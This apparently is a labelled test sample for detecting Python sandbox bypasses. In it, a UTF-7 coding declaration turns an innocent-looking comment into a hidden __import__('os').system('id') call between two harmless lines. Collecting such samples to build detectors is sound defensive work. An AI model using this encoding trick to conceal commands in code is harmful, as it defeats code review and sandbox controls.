#!/usr/bin/env python3
# coding=utf_7
# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (UTF-7 section)
# Family: source-encoding
# What: coding cookie on the second line after a shebang-like comment; hidden builtins __import__
y = 2
#+AAo-+AF8AXw-import+AF8AXw-(+ACI-os+ACI-).system(+ACI-id+ACI-)
print(y)
